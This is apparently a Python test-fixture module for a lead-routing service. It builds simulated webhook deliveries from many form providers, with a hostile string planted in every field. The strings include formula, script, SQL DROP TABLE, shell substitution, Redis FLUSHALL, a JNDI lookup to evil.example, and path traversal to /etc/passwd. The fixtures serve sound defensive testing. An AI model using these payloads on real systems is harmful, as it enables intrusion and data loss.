"""Texts that attack whatever shows or stores them, and deliveries that hold them in every field.

Each holds the word `evil`, by which a test finds it again. A new destination, page or command meets all of them by itself.
"""

import json
import urllib.parse
import zlib
from collections.abc import Callable
from typing import Any

from speed_to_lead.core.submission import FETCH_HEADER, LEAD_FIELDS
from speed_to_lead.forms import PROVIDERS

MARK = "evil"

HOSTILE = {
    "formula": "=1+1+cmd|'/C calc'!A0 evil",
    "formula at": "@SUM(1+1)*evil",
    "formula plus": "+evil-1",
    "formula tab": "\t=evil()",
    "script": "<script>alert('evil')</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="evil()" x=\'',
    "closing": "</td></table></script></style><svg onload=evil()>--><!--",
    "javascript": "javascript:alert('evil')//",
    "entity": "&lt;b&gt;evil&#x3c;script&#62;",
    "everybody": "<!channel> <!here|evil> <!everyone> <!subteam^S123|evil>",
    "mention": "<@U123EVIL> <#C123|evil> @everyone @here <at>evil</at>",
    "mrkdwn link": "<https://evil.example|Click here>",
    "markdown": "[Click](https://evil.example) ![x](https://evil.example/x.png) **evil** # h",
    "mrkdwn": "*evil* _it_ ~out~ `code` ```block``` > quote &amp;",
    "mail header": "Ann\r\nBcc: evil@evil.example\r\nX-Evil: 1\r\n\r\nbody",
    "mail dot": "Ann\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nQUIT\r\n",
    "encoded word": "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?= evil",
    "http header": "evil\r\nSet-Cookie: evil=1\r\n\r\nHTTP/1.1 200 OK\r\n",
    "nul": "Ann\x00evil",
    "right to left": "evil \u202egnp.exe\u202c \u2067x\u2069 \u200f\u061c",
    "zero width": "e\u200bvil evil \ufeff\u2060\u00ad\U000e0041",
    "terminal": "\x1b[31mevil\x1b]0;evil\x07\x1b[2J\x1b[1A\x9b31m\x9d0;evil\x9c\x08\x7f",
    "log line": 'evil"}\n{"event": "lead.routed", "level": "info"}',
    "line separators": "evil\u2028evil\u2029evil\x85evil\x0bevil\x0cevil",
    "long word": "evil" + "W" * 9000,
    "combining": "evil" + "\u0301\u0489" * 400,
    "template": "{{7*7}} {% raw %}evil ${7*7} #{7*7} <%= 7*7 %>",
    "jndi": "${jndi:ldap://evil.example/a}",
    "format": "%s%n%x {0.__class__} {evil!r} %(evil)s",
    "json": '"},"evil":{"x":"\\u0000\\',
    "redis": "evil\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "lua": "evil]]..redis.call('FLUSHALL')..[[ ",
    "sql": "evil'; DROP TABLE leads;--",
    "shell": "$(touch /tmp/evil) `evil` ; evil | evil && evil",
    "path": "../../../../etc/passwd\x00evil",
    "key": "evil}:{stl}:leads:incoming",
    "normalisation": "\uff1cscript\uff1eevil\uff1c/script\uff1e \ufb03 \u212b \u2126",
    "look-alikes": "\u0435vil evil \u0430dm\u0456n",
    "half a pair": "evil \ud83d",
    "emoji": "evil 👩\u200d👩\u200d👧",
}


def address_of(text: str) -> str:
    """An e-mail address as hostile as one can be and still pass for one."""
    local = "".join(text.split()).replace("@", "").replace("\x00", "")[:300]
    return f"{local}@{MARK}.example"


def fields_of(text: str) -> dict[str, Any]:
    """Every field of the generic lead with this text in it; names and values of custom fields too."""
    fields: dict[str, Any] = dict.fromkeys(LEAD_FIELDS, text)
    nested = {text: [text, {text: text}]}
    return {**fields, "email": address_of(text), "phone": f"+1 555 0100 {text}", text: text, "custom": nested}


def _calendly(fields: dict[str, Any], text: str) -> dict[str, Any]:
    asked = [{"question": name, "answer": value, "position": 0} for name, value in fields.items()]
    meeting = {"name": text, "start_time": text, "location": {"type": text, "location": text}}
    person = {"email": fields["email"], "uri": text, "timezone": text, "created_at": text}
    tracking = {"utm_source": text}
    payload = {**person, "tracking": tracking, "scheduled_event": meeting, "questions_and_answers": asked}
    return {"event": "invitee.created", "created_at": text, "payload": payload}


def _tally(fields: dict[str, Any], text: str) -> dict[str, Any]:
    answered = [
        {"key": text, "label": name, "type": "INPUT_TEXT", "value": value} for name, value in fields.items()
    ]
    picked = {
        "key": text,
        "label": text,
        "type": "DROPDOWN",
        "value": [text],
        "options": [{"id": text, "text": text}],
    }
    form = {"formId": text, "formName": text, "submissionId": text, "createdAt": text}
    return {"eventType": "FORM_RESPONSE", "createdAt": text, "data": {**form, "fields": [*answered, picked]}}


def _webflow(fields: dict[str, Any], text: str) -> dict[str, Any]:
    told = {"name": text, "siteId": text, "id": text, "formId": text, "submittedAt": text, "pageUrl": text}
    schema = [{"fieldName": text, "fieldType": text}]
    return {"triggerType": "form_submission", "payload": {**told, "data": fields, "schema": schema}}


def _jotform(fields: dict[str, Any], text: str) -> dict[str, Any]:
    raw = {f"q{number}_{name}": value for number, (name, value) in enumerate(fields.items())}
    told = {"formID": text, "formTitle": text, "submissionID": text, "customParams": text, "webhookURL": text}
    return {**told, "rawRequest": {**raw, text: text}}


def _elementor(fields: dict[str, Any], text: str) -> dict[str, Any]:
    answered = {
        name: {"id": name, "title": name, "type": "text", "value": value, "raw_value": value}
        for name, value in fields.items()
    }
    return {
        "form": {"id": text, "name": text},
        "fields": answered,
        "meta": {"date": {"title": text, "value": text}},
    }


def _fluent(fields: dict[str, Any], text: str) -> dict[str, Any]:
    return {**fields, "__submission": {"id": text, "form_id": text, "status": text, "source_url": text}}


def _formstack(fields: dict[str, Any], text: str) -> dict[str, Any]:
    return {**fields, "FormID": text, "UniqueID": text}


def _gravity(fields: dict[str, Any], text: str) -> dict[str, Any]:
    return {**fields, "id": text, "form_id": text, "date_created": text, "status": text, "5.1": text}


def _unbounce(fields: dict[str, Any], text: str) -> dict[str, Any]:
    told = {"page_name": [text], "page_id": [text], "variant": [text], "date_submitted": [text]}
    return {**{name: [value] for name, value in fields.items()}, **told}


def _salesforce(fields: dict[str, Any], text: str) -> dict[str, Any]:
    return {**fields, "oid": text, "00N000000000000": text}


#: What the tools send that hold names and values.
OTHERS: dict[str, Callable[[dict[str, Any], str], dict[str, Any]]] = {
    "calendly": _calendly,
    "elementor": _elementor,
    "fluent": _fluent,
    "formstack": _formstack,
    "gravity": _gravity,
    "jotform": _jotform,
    "salesforce_web_to_lead": _salesforce,
    "tally": _tally,
    "unbounce": _unbounce,
    "webflow": _webflow,
}


def delivery_of(provider: str, text: str) -> bytes:  # noqa: C901 - one branch for each tool
    """What this form tool would send for such a person."""
    fields = fields_of(text)
    delivery: dict[str, Any]
    if provider == "typeform":
        answers = [
            {"type": "text", "text": value, "field": {"id": name, "ref": name, "type": "short_text"}}
            for name, value in fields.items()
            if isinstance(value, str)
        ]
        answers.append({"type": "email", "email": fields["email"], "field": {"id": "e", "ref": "email"}})
        definition = {"title": text, "fields": [{"id": name, "title": text} for name in fields]}
        response = {"form_id": text, "token": text, "submitted_at": text, "definition": definition}
        hidden = {text: text, "utm_source": text}
        variables = [{"key": text, "type": "text", "text": text}]
        delivery = {
            "event_id": text,
            "event_type": "form_response",
            "form_response": {**response, "hidden": hidden, "variables": variables, "answers": answers},
        }
    elif provider == "hubspot":
        properties = {name: {"value": value} for name, value in fields.items() if isinstance(value, str)}
        newest = {"conversion-id": text, "timestamp": text, "page-url": text, "title": text, "form-id": text}
        owner = {"email": text, "first-name": text}
        delivery = {"vid": text, "portal-id": text, "properties": properties, "form-submissions": [newest]}
        delivery["associated-owner"] = owner
    elif provider in OTHERS:
        delivery = OTHERS[provider](fields, text)
    elif provider == "google_ads":
        columns = [
            {"column_id": column, "string_value": value, "column_name": text}
            for column, value in (
                ("EMAIL", fields["email"]),
                ("PHONE_NUMBER", fields["phone"]),
                *(
                    (name, text)
                    for name in ("FULL_NAME", "COMPANY_NAME", "JOB_TITLE", "CITY", "COUNTRY", "REGION")
                ),
                (text, text),
            )
        ]
        delivery = {"lead_id": text, "gcl_id": text, "form_id": text, "user_column_data": columns}
        delivery["lead_submit_time"] = text
    elif provider == "intercom":
        person = {name: fields[name] for name in ("email", "phone", "name", "utm_source", "referrer")}
        place = {"country": text, "region": text, "city": text}
        company = {"companies": [{"name": text, "website": text, "industry": text}]}
        item = {**person, "id": text, "location": place, "companies": company}
        item |= {
            "custom_attributes": {text: text, "title": text},
            "conversation_message": {"body": text, "url": text},
        }
        delivery = {"topic": "contact.lead.created", "id": text, "created_at": text, "data": {"item": item}}
    elif provider == "segment":
        delivery = {"type": "identify", "messageId": text, "userId": text, "timestamp": text}
        delivery |= {"traits": {name: value for name, value in fields.items() if isinstance(value, str)}}
        delivery["context"] = {"page": {"url": text, "referrer": text}, "campaign": {"name": text}}
    elif provider == "chili_piper":
        guest = {name: value for name, value in fields.items() if isinstance(value, str)}
        delivery = {"meetingIdChili": text, "meetingTitle": text, "primaryGuestEmail": fields["email"]}
        delivery |= {"primaryGuestDataFields": guest, "hostFullName": text}
    elif provider == "cloudevents":
        delivery = {
            "specversion": "1.0",
            "id": text,
            "source": text,
            "type": text,
            "time": text,
            "data": fields,
        }
    elif provider == "meta":
        answers = [
            {"name": name, "values": [value]} for name, value in fields.items() if isinstance(value, str)
        ]
        value = {
            "leadgen_id": zlib.crc32(text.encode("utf-8", "surrogatepass")),
            "ad_id": text,
            "form_id": text,
        }
        ids = {"object": "page", "entry": [{"id": text, "changes": [{"field": "leadgen", "value": value}]}]}
        delivery = {"delivery": ids, "answers": [{"created_time": text, "field_data": answers}]}
    elif provider == "linkedin":
        told = {name.upper(): value for name, value in fields.items() if isinstance(value, str)}
        questions = [{"questionId": name, "predefinedField": name, "label": text} for name in told]
        answers = [{"questionId": name, "answerDetails": {"answer": value}} for name, value in told.items()]
        ids = {
            "leadGenFormResponse": f"urn:li:leadGenFormResponse:{zlib.crc32(text.encode('utf-8', 'surrogatepass'))}",
            "leadGenForm": "urn:li:leadGenForm:1",
        }
        delivery = {"delivery": ids, "answers": [{"answers": answers}, {"questions": questions}]}
    else:
        assert provider in PROVIDERS
        delivery = {**fields, "submission_id": text, "submitted_at": text}
    return json.dumps(delivery).encode()


def headers_of(provider: str) -> dict[str, str]:
    """What is stored beside it: of a tool that sends ids only, that its API has answered."""
    return {FETCH_HEADER: "complete"} if provider in ("meta", "linkedin") else {}


def form_of(text: str) -> bytes:
    """The same person as an urlencoded form."""
    fields = {name: value for name, value in fields_of(text).items() if isinstance(value, str)}
    return urllib.parse.urlencode(fields, errors="replace").encode()
